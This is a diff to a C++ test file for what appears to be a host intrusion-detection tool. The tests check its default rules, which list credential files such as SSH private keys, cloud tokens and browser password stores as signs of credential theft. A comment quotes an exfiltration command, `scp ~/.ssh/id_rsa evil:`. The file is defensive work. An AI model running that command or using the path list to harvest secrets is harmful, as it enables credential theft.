@@ -2,7 +2,10 @@
 
 #include <catch2/catch.hpp>
 
+#include <algorithm>
+#include <optional>
 #include <string>
+#include <vector>
 
 #include <barbwire/config.hpp>
 #include <barbwire/rules.hpp>
@@ -100,7 +103,7 @@ TEST_CASE("without a family section only the process itself correlates (the seed
     CHECK(d.family[relation::session].modifier == -1);
 }
 
-TEST_CASE("default_config: the seed's rules plus /.aws/credentials, without libc's public files") {
+TEST_CASE("default_config: secrets are evidence, libc's public files are context, no name-based suspicion") {
     auto tree = json::parse(barbwire::default_config_json);
     auto r = parse_config(tree);
     INFO((r ? "" : r.error().message));
@@ -108,19 +111,30 @@ TEST_CASE("default_config: the seed's rules plus /.aws/credentials, without libc
     config c = barbwire::default_config();
     CHECK(c == *r);
     CHECK(c.window == std::chrono::seconds{5});
-    REQUIRE(c.suspicious_files.size() == 5);
-    CHECK(c.suspicious_files[0].name == "credential access");
-    CHECK(c.suspicious_files[0].base_score == 3);
-    CHECK(c.suspicious_files[0].patterns == std::vector<std::string>{"/etc/shadow", "/.aws/credentials"});
-    CHECK(c.suspicious_files[1].name == "ssh key exfiltration");
-    CHECK(c.suspicious_files[3].patterns == std::vector<std::string>{"/proc/"});
-    CHECK(c.suspicious_files[4].patterns == std::vector<std::string>{"/tmp/", "/dev/shm/"});
-    // libc reads these in every name lookup: not scored by the built-in rules
-    for (const char* pub : {"/etc/passwd", "/etc/hosts", "/etc/resolv.conf", "/etc/nsswitch.conf"})
-        for (const auto& cat : c.suspicious_files) CHECK_FALSE(cat.matches(pub));
-    REQUIRE(c.suspicious_parents.size() == 8);
-    CHECK(c.suspicious_parents[4].value == "sshd");
-    CHECK(c.suspicious_parents[4].modifier == 3);
+    // every category of docs/rules.md, in its order
+    std::vector<std::string> names;
+    for (const auto& f : c.suspicious_files) names.push_back(f.name);
+    CHECK(names == std::vector<std::string>{"password hashes", "ssh private keys", "cloud credentials",
+                                            "kubernetes credentials", "browser credential stores",
+                                            "password manager stores", "netrc", "git credentials",
+                                            "database passwords", "container registry credentials",
+                                            "shell history", "name service files", "ssh public files"});
+    for (const auto& f : c.suspicious_files) {
+        INFO(f.name);
+        if (f.context) {
+            CHECK(f.base_score == 0);
+        } else if (f.name == "shell history") {
+            CHECK(f.base_score < c.alert_threshold); // recon: never an alert alone
+        } else {
+            // a secret alerts on its own at every relation, the weakest (session -1) included
+            CHECK(f.base_score + c.family[relation::session].modifier >= c.alert_threshold);
+        }
+    }
+    // the seed's locations are gone: /proc and /tmp are read by every program
+    for (const char* loc : {"/proc/1234/maps", "/proc/self/status", "/tmp/cc1234.s", "/dev/shm/x"})
+        for (const auto& cat : c.suspicious_files) CHECK_FALSE(cat.matches(loc));
+    // no name raises suspicion (a shell is the parent of nearly every command)
+    CHECK(c.suspicious_parents.empty());
     REQUIRE(c.legit_parents.size() == 3);
     CHECK(c.legit_parents[1].value == "containerd");
     CHECK(c.legit_parents[1].modifier == -2);
@@ -131,19 +145,98 @@ TEST_CASE("default_config: the seed's rules plus /.aws/credentials, without libc
     CHECK(c.severity_high == 5);
     CHECK(c.alert_threshold == 3);
     CHECK(c.limits == barbwire::limits{});
+    // every built-in trust is by path alone, for named categories only
+    REQUIRE_FALSE(c.trusted_binaries.empty());
+    for (const auto& t : c.trusted_binaries) {
+        INFO(t.exe);
+        CHECK(t.exe.front() == '/');
+        CHECK(t.sha256.empty());
+        CHECK_FALSE(t.categories.empty());
+    }
 }
 
-TEST_CASE("patterns are path substrings, as in the seed") {
-    config c = barbwire::default_config();
-    const auto& cred = c.suspicious_files[0];
-    CHECK(cred.matches("/etc/shadow"));
-    CHECK(cred.matches("/home/u/.aws/credentials"));
-    CHECK_FALSE(cred.matches("/etc/group"));
-    const auto& keys = c.suspicious_files[1];
-    CHECK(keys.matches("/home/u/.ssh/id_rsa"));
-    CHECK(keys.matches("/home/u/.ssh/id_rsa.pub")); // substring, like the seed
-    CHECK(c.suspicious_files[3].matches("/proc/1234/mem"));
-    CHECK_FALSE(c.suspicious_files[3].matches("/process/x"));
+namespace {
+// The category of `path` under the built-in rules, as the correlator ranks
+// them (evidence before context, then the higher base score); "" for none.
+std::string builtin_category(const std::string& path) {
+    static const barbwire::rule_set rules(barbwire::default_config());
+    const auto m = rules.match_file(path);
+    return m ? std::string(rules.category_name(m->category)) + (m->context ? " (context)" : "") : "";
+}
+} // namespace
+
+TEST_CASE("default_config: each category matches its examples") {
+    struct example {
+        const char* path;
+        const char* category;
+    };
+    const example examples[] = {
+        {"/etc/shadow", "password hashes"},
+        {"/etc/shadow-", "password hashes"},
+        {"/etc/gshadow", "password hashes"},
+        {"/etc/security/opasswd", "password hashes"},
+        {"/home/ann/.ssh/id_rsa", "ssh private keys"},
+        {"/root/.ssh/id_ed25519", "ssh private keys"},
+        {"/home/ann/.ssh/id_ecdsa", "ssh private keys"},
+        {"/home/ann/.ssh/id_dsa", "ssh private keys"},
+        {"/home/ann/.ssh/id_ed25519_sk", "ssh private keys"},
+        {"/home/ann/.aws/credentials", "cloud credentials"},
+        {"/home/ann/.config/gcloud/credentials.db", "cloud credentials"},
+        {"/home/ann/.config/gcloud/application_default_credentials.json", "cloud credentials"},
+        {"/home/ann/.config/gcloud/legacy_credentials/ann@example.com/adc.json", "cloud credentials"},
+        {"/home/ann/.azure/msal_token_cache.json", "cloud credentials"},
+        {"/home/ann/.kube/config", "kubernetes credentials"},
+        {"/etc/kubernetes/admin.conf", "kubernetes credentials"},
+        {"/home/ann/.mozilla/firefox/abcd.default-esr/logins.json", "browser credential stores"},
+        {"/home/ann/.mozilla/firefox/abcd.default-esr/key4.db", "browser credential stores"},
+        {"/home/ann/.mozilla/firefox/abcd.default-esr/cookies.sqlite", "browser credential stores"},
+        {"/home/ann/.config/google-chrome/Default/Login Data", "browser credential stores"},
+        {"/home/ann/.config/chromium/Profile 1/Login Data", "browser credential stores"},
+        {"/home/ann/.config/google-chrome/Default/Cookies", "browser credential stores"},
+        {"/home/ann/.config/chromium/Default/Network/Cookies", "browser credential stores"},
+        {"/home/ann/.password-store/bank.gpg", "password manager stores"},
+        {"/home/ann/.local/share/keyrings/login.keyring", "password manager stores"},
+        {"/home/ann/.local/share/kwalletd/kdewallet.kwl", "password manager stores"},
+        {"/home/ann/.gnupg/private-keys-v1.d/0123ABCD.key", "password manager stores"},
+        {"/home/ann/Documents/vault.kdbx", "password manager stores"},
+        {"/home/ann/.netrc", "netrc"},
+        {"/home/ann/.git-credentials", "git credentials"},
+        {"/home/ann/.config/git/credentials", "git credentials"},
+        {"/home/ann/.pgpass", "database passwords"},
+        {"/root/.my.cnf", "database passwords"},
+        {"/home/ann/.docker/config.json", "container registry credentials"},
+        {"/run/user/1000/containers/auth.json", "container registry credentials"},
+        {"/home/ann/.bash_history", "shell history"},
+        {"/home/ann/.zsh_history", "shell history"},
+        {"/home/ann/.local/share/fish/fish_history", "shell history"},
+        {"/home/ann/.python_history", "shell history"},
+        // libc's public files: context, never evidence
+        {"/etc/passwd", "name service files (context)"},
+        {"/etc/group", "name service files (context)"},
+        {"/etc/hosts", "name service files (context)"},
+        {"/etc/resolv.conf", "name service files (context)"},
+        {"/etc/nsswitch.conf", "name service files (context)"},
+        {"/etc/host.conf", "name service files (context)"},
+        {"/etc/gai.conf", "name service files (context)"},
+        {"/home/ann/.ssh/known_hosts", "ssh public files (context)"},
+        {"/home/ann/.ssh/authorized_keys", "ssh public files (context)"},
+        // not in any category
+        {"/etc/ssl/certs/ca-certificates.crt", ""},
+        {"/usr/lib/x86_64-linux-gnu/libc.so.6", ""},
+        {"/home/ann/.ssh/config", ""},
+        {"/home/ann/.bashrc", ""},
+        {"/home/ann/.aws/config", ""},
+        {"/etc/ld.so.cache", ""},
+        {"/etc/localtime", ""},
+        {"/proc/self/maps", ""},
+        {"/tmp/pip-unpack-1234/x.whl", ""},
+    };
+    for (const auto& e : examples) {
+        INFO(e.path);
+        CHECK(builtin_category(e.path) == e.category);
+    }
+    // a known limitation of substring patterns (docs/rules.md): the public half of a key matches too
+    CHECK(builtin_category("/home/ann/.ssh/id_rsa.pub") == "ssh private keys");
 }
 
 TEST_CASE("window_duration: seconds, integer or not") {
@@ -474,7 +567,10 @@ TEST_CASE("to_json round-trips") {
     REQUIRE(back.has_value());
     CHECK(*back == d);
     CHECK(barbwire::to_json(d)["window_duration"] == json(5));
-    CHECK(barbwire::to_json(d)["suspicious_parents"][0] == json{{"program", "bash"}, {"modifier", 2}});
+    CHECK(barbwire::to_json(d)["legit_parents"][0] == json{{"program", "systemd"}, {"modifier", -2}});
+    CHECK(barbwire::to_json(d)["suspicious_files"][11]["context"] == json(true));
+    CHECK_FALSE(barbwire::to_json(d)["suspicious_files"][0].contains("context")); // false is not written
+    CHECK(barbwire::to_json(d)["trusted_binaries"][0] == json{{"exe", "/usr/bin/ssh"}, {"categories", {"ssh private keys"}}});
 
     auto e = parsed(json{{"window_duration", 0.25},
                          {"suspicious_parents", {{{"exe", "/usr/bin/nc"}, {"modifier", 4}}}},
@@ -555,3 +651,151 @@ TEST_CASE("family section and sha256 parent rules", "[config][family]") {
     CHECK_FALSE(parse_config_json(R"({"suspicious_parents": [{"sha256": ")" + h + R"(", "comm": "x", "modifier": 4}]})"));
 }
 } // namespace family_tests
+
+// ---------------------------------------------------------------------------
+// Context categories and trusted binaries (issue 5).
+namespace quiet_tests {
+
+TEST_CASE("context: an optional boolean per category, false by default", "[config][context]") {
+    json two = {{"suspicious_files",
+                 {category("secrets", 5), {{"category", "public"}, {"base_score", 0}, {"patterns", {"/etc/passwd"}},
+                                           {"context", true}}}}};
+    config c = parsed(two);
+    REQUIRE(c.suspicious_files.size() == 2);
+    CHECK_FALSE(c.suspicious_files[0].context);
+    CHECK(c.suspicious_files[1].context);
+    CHECK(parsed(barbwire::to_json(c)) == c);
+    json explicit_false = {{"suspicious_files", {category("x")}}};
+    explicit_false["suspicious_files"][0]["context"] = false;
+    CHECK_FALSE(parsed(explicit_false).suspicious_files[0].context);
+
+    json bad = {{"suspicious_files", {category("x")}}};
+    bad["suspicious_files"][0]["context"] = "yes";
+    CHECK(error_of(bad) == "suspicious_files[0].context: expected true (the category is context: its opens never make "
+                           "an alert) or false, got a string (\"yes\")");
+    bad["suspicious_files"][0]["context"] = 1;
+    CHECK(error_of(bad).rfind("suspicious_files[0].context: expected true", 0) == 0);
+    json typo = {{"suspicious_files", {category("x")}}};
+    typo["suspicious_files"][0]["contxt"] = true;
+    CHECK(error_of(typo).find("did you mean context?") != std::string::npos);
+    // context does not replace a required key
+    CHECK(error_of(json{{"suspicious_files", {{{"category", "x"}, {"patterns", {"/x"}}, {"context", true}}}}}) ==
+          "suspicious_files[0].base_score: missing; every file category needs category, base_score and patterns");
+}
+
+namespace {
+const std::string H = std::string(32, 'a') + std::string(32, '0'); // a well-formed sha256
+json with_trust(json entries) {
+    return json{{"suspicious_files", {category("keys", 5), category("hashes", 5),
+                                      {{"category", "public"}, {"base_score", 0}, {"patterns", {"/p"}}, {"context", true}}}},
+                {"trusted_binaries", std::move(entries)}};
+}
+} // namespace
+
+TEST_CASE("trusted_binaries: exe, sha256, categories", "[config][trust]") {
+    config c = parsed(with_trust({{{"exe", "/usr/bin/ssh"}, {"categories", {"keys"}}},
+                                  {{"sha256", H}},
+                                  {{"exe", "/opt/x/agent"}, {"sha256", H}, {"categories", {"keys", "hashes"}}}}));
+    REQUIRE(c.trusted_binaries.size() == 3);
+    CHECK(c.trusted_binaries[0] == barbwire::trusted_binary{"/usr/bin/ssh", "", {"keys"}});
+    CHECK(c.trusted_binaries[1] == barbwire::trusted_binary{"", H, {}});
+    CHECK(c.trusted_binaries[2] == barbwire::trusted_binary{"/opt/x/agent", H, {"keys", "hashes"}});
+    json j = barbwire::to_json(c);
+    CHECK(j["trusted_binaries"][0] == json{{"exe", "/usr/bin/ssh"}, {"categories", {"keys"}}});
+    CHECK(j["trusted_binaries"][1] == json{{"sha256", H}});
+    CHECK(parsed(j) == c);
+    // absent and empty (null) mean no trust
+    CHECK(parsed(json::object()).trusted_binaries.empty());
+    CHECK(parsed(json{{"trusted_binaries", nullptr}}).trusted_binaries.empty());
+}
+
+TEST_CASE("trusted_binaries: every mistake is one line naming the field", "[config][trust]") {
+    CHECK(error_of(with_trust({{{"categories", {"keys"}}}})) ==
+          "trusted_binaries[0]: names no executable; expected exe (executable path), sha256 (its hash) or both");
+    CHECK(error_of(with_trust({{{"exe", "ssh"}}})) ==
+          "trusted_binaries[0].exe: is not an absolute path (\"ssh\"); expected the executable path the kernel "
+          "reports, such as \"/usr/bin/ssh\"");
+    CHECK(error_of(with_trust({{{"exe", ""}}})).rfind("trusted_binaries[0].exe: must not be empty", 0) == 0);
+    CHECK(error_of(with_trust({{{"sha256", std::string(64, 'A')}}})).rfind(
+              "trusted_binaries[0].sha256: expected the SHA-256 of the executable as 64 lowercase hexadecimal digits", 0) == 0);
+    CHECK(error_of(with_trust({{{"sha256", "abc"}}})).rfind("trusted_binaries[0].sha256:", 0) == 0);
+    CHECK(error_of(with_trust({{{"sha256", 5}}})).rfind("trusted_binaries[0].sha256:", 0) == 0);
+    CHECK(error_of(with_trust({{{"exe", "/usr/bin/ssh"}, {"categories", {"kyes"}}}})) ==
+          "trusted_binaries[0].categories[0]: unknown category \"kyes\" (did you mean \"keys\"?); expected one of "
+          "the suspicious_files categories");
+    CHECK(error_of(with_trust({{{"exe", "/usr/bin/ssh"}, {"categories", json::array()}}})) ==
+          "trusted_binaries[0].categories: must not be empty; list the categories to trust, or leave categories out "
+          "to trust the binary for every category");
+    CHECK(error_of(with_trust({{{"exe", "/usr/bin/ssh"}, {"categories", "keys"}}})).rfind(
+              "trusted_binaries[0].categories: expected a list of category names", 0) == 0);
+    CHECK(error_of(with_trust({{{"exe", "/usr/bin/ssh"}, {"categories", {"keys", "keys"}}}})) ==
+          "trusted_binaries[0].categories[1]: duplicate category \"keys\" (also trusted_binaries[0].categories[0]); "
+          "remove one");
+    CHECK(error_of(with_trust({{{"exe", "/usr/bin/ssh"}, {"categories", {"public"}}}})) ==
+          "trusted_binaries[0].categories[0]: \"public\" is a context category: its opens never count, so trusting a "
+          "binary for it changes nothing; remove it");
+    CHECK(error_of(with_trust({{{"exe", "/usr/bin/ssh"}}, {{"exe", "/usr/bin/ssh"}, {"categories", {"keys"}}}})) ==
+          "trusted_binaries[1]: trusts the same executable as trusted_binaries[0]; merge their categories into one entry");
+    CHECK(error_of(with_trust({{{"exe", "/usr/bin/ssh"}, {"modifier", -2}}})).rfind(
+              "trusted_binaries[0].modifier: unknown key", 0) == 0);
+    CHECK(error_of(with_trust({{{"exe", "/usr/bin/ssh"}, {"categorys", {"keys"}}}})).find("did you mean categories?") !=
+          std::string::npos);
+    CHECK(error_of(with_trust(json{"/usr/bin/ssh"})) ==
+          "trusted_binaries[0]: expected a mapping with exe and/or sha256 (and optionally categories), got a string "
+          "(\"/usr/bin/ssh\")");
+    CHECK(error_of(with_trust(json{{"exe", "/usr/bin/ssh"}})).rfind("trusted_binaries: expected a list", 0) == 0);
+    // a category must exist even when suspicious_files comes later in the file
+    CHECK(error_of(json{{"trusted_binaries", {{{"exe", "/x"}, {"categories", {"keys"}}}}}}) ==
+          "trusted_binaries[0].categories[0]: unknown category \"keys\"; suspicious_files defines no categories");
+}
+
+TEST_CASE("trusted_binary::matches: path-only trust needs a root-owned file nobody else can write", "[config][trust]") {
+    using barbwire::trusted_binary;
+    const trusted_binary by_path{"/usr/bin/ssh", "", {}};
+    CHECK(by_path.matches("/usr/bin/ssh", "", 0u, 0755u));
+    CHECK(by_path.matches("/usr/bin/ssh", "", 0u, 04711u));     // setuid bits are not write bits
+    CHECK_FALSE(by_path.matches("/usr/bin/ssh", "", 1000u, 0755u)); // a user's file: that user can replace it
+    CHECK_FALSE(by_path.matches("/usr/bin/ssh", "", 0u, 0775u));    // group-writable
+    CHECK_FALSE(by_path.matches("/usr/bin/ssh", "", 0u, 0757u));    // other-writable
+    CHECK_FALSE(by_path.matches("/usr/bin/ssh", "", std::nullopt, 0755u)); // unknown owner
+    CHECK_FALSE(by_path.matches("/usr/bin/ssh", "", 0u, std::nullopt));    // unknown mode
+    CHECK_FALSE(by_path.matches("/tmp/ssh", "", 0u, 0755u));
+    CHECK_FALSE(by_path.matches("/usr/bin/ssh2", "", 0u, 0755u));
+    CHECK_FALSE(by_path.matches("", "", 0u, 0755u));
+
+    const std::string h1 = std::string(64, 'a'), h2 = std::string(64, 'b');
+    const trusted_binary by_hash{"", h1, {}};
+    CHECK(by_hash.matches("/home/u/bin/tool", h1, 1000u, 0777u)); // the content is the identity
+    CHECK_FALSE(by_hash.matches("/home/u/bin/tool", h2, 0u, 0755u));
+    CHECK_FALSE(by_hash.matches("/usr/bin/ssh", "", 0u, 0755u)); // an unknown hash never matches
+    const trusted_binary both{"/opt/agent", h1, {}};
+    CHECK(both.matches("/opt/agent", h1, 1000u, 0777u));
+    CHECK_FALSE(both.matches("/tmp/agent", h1, 0u, 0755u)); // the path must match too
+    CHECK_FALSE(both.matches("/opt/agent", h2, 0u, 0755u)); // and the hash: a root-owned file is not enough
+
+    const trusted_binary some{"/usr/bin/ssh", "", {"keys"}};
+    CHECK(some.covers("keys"));
+    CHECK_FALSE(some.covers("hashes"));
+    CHECK(by_path.covers("anything"));
+}
+
+TEST_CASE("the built-in trust rules name real categories, and trust no category twice per binary", "[config][trust]") {
+    const config c = barbwire::default_config();
+    for (const auto& t : c.trusted_binaries)
+        for (const auto& name : t.categories) {
+            INFO(t.exe << " " << name);
+            const auto it = std::find_if(c.suspicious_files.begin(), c.suspicious_files.end(),
+                                         [&](const auto& f) { return f.name == name; });
+            REQUIRE(it != c.suspicious_files.end());
+            CHECK_FALSE(it->context);
+        }
+    // scp and sftp read whatever they are told to copy: trusting them would hide `scp ~/.ssh/id_rsa evil:`
+    for (const auto& t : c.trusted_binaries) {
+        CHECK(t.exe != "/usr/bin/scp");
+        CHECK(t.exe != "/usr/bin/sftp");
+        CHECK(t.exe != "/usr/bin/curl"); // curl reads .netrc only when asked; trusting it would hide `curl -T`
+        CHECK(t.exe != "/usr/bin/cat");
+    }
+}
+
+} // namespace quiet_tests
